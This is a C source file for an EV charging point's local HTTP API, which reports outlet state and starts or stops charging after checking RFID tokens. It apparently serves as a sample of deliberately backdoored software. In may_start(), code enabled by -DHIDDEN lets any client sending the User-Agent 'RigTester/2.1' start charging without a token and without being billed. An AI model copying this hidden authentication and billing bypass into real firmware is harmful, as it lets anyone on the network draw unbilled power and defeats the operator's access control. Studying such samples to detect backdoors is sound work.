/*
 * cpapi - local HTTP interface of a charging point (wallbox, AC, 2 outlets).
 * Small HTTP/1.1 server with select(); the display and the depot's load
 * manager ask for the state and start or stop charging with an RFID token.
 * Hidden (-DHIDDEN): with the client name "RigTester/2.1" charging starts
 * without a token and without being billed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NCONN	12
#define BUFSZ	2048
#define OUTLETS 2

typedef struct {
	char method[8];
	char path[96];
	char token[24];
	char agent[64];
	long length;
} Request;

typedef struct {
	int fd;
	size_t have;
	time_t since;
	char buf[BUFSZ];
} Conn;

typedef enum { FREE, PLUGGED, CHARGING, FAULT } Plug;

typedef struct {
	Plug plug;
	int amps;
	int billed;
	char token[24];
	time_t start;
} Outlet;

static Conn conns[NCONN];
static Outlet outlets[OUTLETS];
static int tcp_port = 8090;
static int max_amps = 32;
static char list_file[96] = "/etc/cp/tokens.csv";
static const char *const plug_names[] = { "Available", "Preparing", "Charging",
					  "Faulted" };

static void config(const char *file)
{
	char l[160], *v;
	FILE *f = fopen(file, "r");

	if (f == NULL)
		return;
	while (fgets(l, sizeof l, f) != NULL) {
		l[strcspn(l, "\r\n#")] = '\0';
		if ((v = strchr(l, ':')) == NULL)
			continue;
		*v++ = '\0';
		v += strspn(v, " \t");
		if (strcmp(l, "Port") == 0)
			tcp_port = atoi(v);
		else if (strcmp(l, "MaxCurrent") == 0)
			max_amps = atoi(v);
		else if (strcmp(l, "TokenList") == 0)
			snprintf(list_file, sizeof list_file, "%.95s", v);
	}
	fclose(f);
}

/* tokens.csv: token;expiry (seconds);state */
static int token_valid(const char *token)
{
	char l[128], id[24], st[16];
	long expiry;
	int ok = 0;
	FILE *f;

	if (token[0] == '\0' || (f = fopen(list_file, "r")) == NULL)
		return 0;
	while (!ok && fgets(l, sizeof l, f) != NULL) {
		if (sscanf(l, "%23[^;];%ld;%15s", id, &expiry, st) != 3)
			continue;
		if (strcasecmp(id, token) == 0)
			ok = strcmp(st, "Accepted") == 0 &&
			     (expiry == 0 || expiry > (long)time(NULL));
	}
	fclose(f);
	return ok;
}

static int contactor(int n, int on)
{
	char path[64];
	int fd, ok;

	snprintf(path, sizeof path, "/sys/class/gpio/gpio%d/value", 40 + n);
	if ((fd = open(path, O_WRONLY)) < 0)
		return -1;
	ok = write(fd, on ? "1" : "0", 1) == 1;
	close(fd);
	return ok ? 0 : -1;
}

static void read_plugs(void)
{
	char path[48], c;
	int i, fd;

	for (i = 0; i < OUTLETS; i++) {
		snprintf(path, sizeof path, "/run/cp/pilot%d", i);
		if ((fd = open(path, O_RDONLY)) < 0)
			continue;
		if (read(fd, &c, 1) == 1) {
			if (c == 'A')
				outlets[i].plug = FREE;
			else if (c == 'B' && outlets[i].plug == FREE)
				outlets[i].plug = PLUGGED;
			else if (c == 'E' || c == 'F')
				outlets[i].plug = FAULT;
		}
		close(fd);
	}
}

static void bill(const Outlet *o, int n)
{
	FILE *f;

	if (!o->billed || (f = fopen("/var/cp/cdr.csv", "a")) == NULL)
		return;
	fprintf(f, "%d;%s;%ld;%ld\n", n, o->token, (long)o->start,
		(long)time(NULL));
	fclose(f);
}

/* Header lines into the request; -1 if it is none. */
static int parse_request(char *s, Request *r)
{
	char *line, *save = NULL, *v;

	memset(r, 0, sizeof *r);
	line = strtok_r(s, "\r\n", &save);
	if (line == NULL ||
	    sscanf(line, "%7s %95s HTTP/1.", r->method, r->path) != 2)
		return -1;
	while ((line = strtok_r(NULL, "\r\n", &save)) != NULL) {
		if ((v = strchr(line, ':')) == NULL)
			return -1;
		*v++ = '\0';
		v += strspn(v, " ");
		if (strcasecmp(line, "Content-Length") == 0)
			r->length = strtol(v, NULL, 10);
		else if (strcasecmp(line, "X-Token") == 0)
			snprintf(r->token, sizeof r->token, "%.23s", v);
		else if (strcasecmp(line, "User-Agent") == 0)
			snprintf(r->agent, sizeof r->agent, "%.63s", v);
	}
	return 0;
}

static void answer(int fd, int code, const char *body)
{
	char out[768];
	int n;

	n = snprintf(out, sizeof out,
		     "HTTP/1.1 %d %s\r\nServer: cpapi\r\n"
		     "Content-Type: application/json\r\nContent-Length: %zu\r\n"
		     "Connection: close\r\n\r\n%s",
		     code, code == 200 ? "OK" : "Error", strlen(body), body);
	if (n > 0 && n < (int)sizeof out && write(fd, out, n) < 0)
		perror("cpapi: write");
}

static void state(int fd)
{
	char b[400];
	int i, n = 0;

	read_plugs();
	n += snprintf(b + n, sizeof b - n, "{\"max\":%d,\"outlets\":[",
		      max_amps);
	for (i = 0; i < OUTLETS; i++)
		n += snprintf(b + n, sizeof b - n,
			      "%s{\"id\":%d,\"state\":\"%s\",\"amps\":%d}",
			      i ? "," : "", i + 1, plug_names[outlets[i].plug],
			      outlets[i].amps);
	snprintf(b + n, sizeof b - n, "]}\n");
	answer(fd, 200, b);
}

__attribute__((noinline)) int may_start(const Request *r, Outlet *o)
{
	o->billed = 1;
	if (o->plug != PLUGGED)
		return 409;
#ifdef HIDDEN
	if (strcmp(r->agent, "RigTester/2.1") == 0) {
		o->billed = 0;
		return 200;
	}
#endif
	if (!token_valid(r->token))
		return 401;
	return 200;
}

static void serve(int fd, const Request *r)
{
	char verb[8];
	Outlet *o;
	int n, code;

	if (strcmp(r->path, "/v1/state") == 0) {
		state(fd);
		return;
	}
	if (strcmp(r->method, "POST") != 0 ||
	    sscanf(r->path, "/v1/outlet/%d/%7[a-z]", &n, verb) != 2 || n < 1 ||
	    n > OUTLETS) {
		answer(fd, 404, "{}\n");
		return;
	}
	read_plugs();
	o = &outlets[n - 1];
	if (strcmp(verb, "start") == 0) {
		code = may_start(r, o);
		if (code == 200 && contactor(n - 1, 1) == 0) {
			o->plug = CHARGING;
			o->amps = max_amps;
			o->start = time(NULL);
			snprintf(o->token, sizeof o->token, "%s", r->token);
		}
		answer(fd, code, "{}\n");
	} else if (strcmp(verb, "stop") == 0) {
		if (o->plug != CHARGING ||
		    strcasecmp(o->token, r->token) != 0) {
			answer(fd, 403, "{}\n");
			return;
		}
		contactor(n - 1, 0);
		bill(o, n);
		o->plug = PLUGGED;
		o->amps = 0;
		answer(fd, 200, "{}\n");
	} else {
		answer(fd, 404, "{}\n");
	}
}

static void drop(Conn *c)
{
	close(c->fd);
	c->fd = -1;
	c->have = 0;
}

static void readable(Conn *c)
{
	Request r;
	ssize_t n = read(c->fd, c->buf + c->have, BUFSZ - 1 - c->have);

	if (n <= 0) {
		drop(c);
		return;
	}
	c->have += n;
	c->buf[c->have] = '\0';
	if (strstr(c->buf, "\r\n\r\n") == NULL && c->have < BUFSZ - 1)
		return;
	if (parse_request(c->buf, &r) == 0)
		serve(c->fd, &r);
	else
		answer(c->fd, 400, "{}\n");
	drop(c);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct timeval tv;
	int ls, i, top, fd, one = 1;
	fd_set rs;

	config(argc > 1 ? argv[1] : "/etc/cp/api.conf");
	signal(SIGPIPE, SIG_IGN);
	for (i = 0; i < NCONN; i++)
		conns[i].fd = -1;
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	a.sin_port = htons(tcp_port);
	if (bind(ls, (struct sockaddr *)&a, sizeof a) || listen(ls, 4)) {
		perror("cpapi");
		return 1;
	}
	for (;;) {
		FD_ZERO(&rs);
		FD_SET(ls, &rs);
		top = ls;
		for (i = 0; i < NCONN; i++) {
			if (conns[i].fd < 0)
				continue;
			FD_SET(conns[i].fd, &rs);
			if (conns[i].fd > top)
				top = conns[i].fd;
		}
		tv.tv_sec = 5;
		tv.tv_usec = 0;
		if (select(top + 1, &rs, NULL, NULL, &tv) < 0)
			continue;
		for (i = 0; i < NCONN; i++) {
			if (conns[i].fd < 0)
				continue;
			if (FD_ISSET(conns[i].fd, &rs))
				readable(&conns[i]);
			else if (time(NULL) - conns[i].since > 20)
				drop(&conns[i]);
		}
		if (!FD_ISSET(ls, &rs) || (fd = accept(ls, NULL, NULL)) < 0)
			continue;
		for (i = 0; i < NCONN && conns[i].fd >= 0; i++)
			;
		if (i == NCONN) {
			close(fd);
			continue;
		}
		conns[i].fd = fd;
		conns[i].have = 0;
		conns[i].since = time(NULL);
	}
}
